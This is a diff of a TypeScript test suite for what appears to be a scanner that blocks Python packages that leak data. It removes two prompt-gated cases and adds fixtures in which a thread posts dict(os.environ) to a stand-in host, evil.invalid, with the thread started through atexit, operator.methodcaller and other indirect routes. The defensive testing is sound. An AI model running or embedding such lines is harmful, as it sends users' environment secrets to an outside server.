@@ -184,31 +184,6 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
     ],
   ],
   [
-    'a program that asks first',
-    'pkg/a.py',
-    [
-      'import os, requests',
-      'reply = input("Send the report? ")',
-      'if reply.lower() in ("y", "yes"):',
-      '    print(requests.post("https://evil.invalid", json=dict(os.environ)).text)',
-    ],
-    [
-      'import os, requests',
-      'reply = input("Continue? ")',
-      'print(requests.post("https://evil.invalid", json=dict(os.environ)).text)',
-    ],
-  ],
-  [
-    'a question while the package is built, which nobody can answer',
-    'pkg/a.py',
-    [
-      'if input("?") == "y":',
-      '    import os, requests',
-      '    print(requests.post("https://evil.invalid", json=dict(os.environ)).text)',
-    ],
-    ['import os, requests', 'print(requests.post("https://evil.invalid", json=dict(os.environ)).text)'],
-  ],
-  [
     'a repository that a page names',
     'setup.py',
     [
@@ -224,6 +199,25 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
   ],
 ])('%s', (_what, path, honest, other) => {
   expect([isBlocked(path, honest), isBlocked(path, other)]).toEqual([false, true]);
+});
+
+test.each([
+  'threading.Thread.start(thread)',
+  'import atexit\natexit.register(thread.start)',
+  'import operator\noperator.methodcaller("start")(thread)',
+  'if __name__ == "__main__":\n    thread.start()\nthread.start()',
+])('a thread is started by %s', (starter) => {
+  const lines = [
+    'import os, requests, threading',
+    'def tell(): return requests.post("https://evil.invalid", data=dict(os.environ)).json()',
+    'thread = threading.Thread(target=tell)',
+    starter,
+  ];
+  const files = { 'fixture-1.0/pkg/__init__.py': lines.join('\n') };
+  const { findings } = judgeSources(sourceTree(files), python);
+  expect(findings.filter(({ severity }) => severity === BLOCKED).map(({ reach }) => reach)).toContain(
+    'import',
+  );
 });
 
 test('threads are started whatever they are kept in', () => {
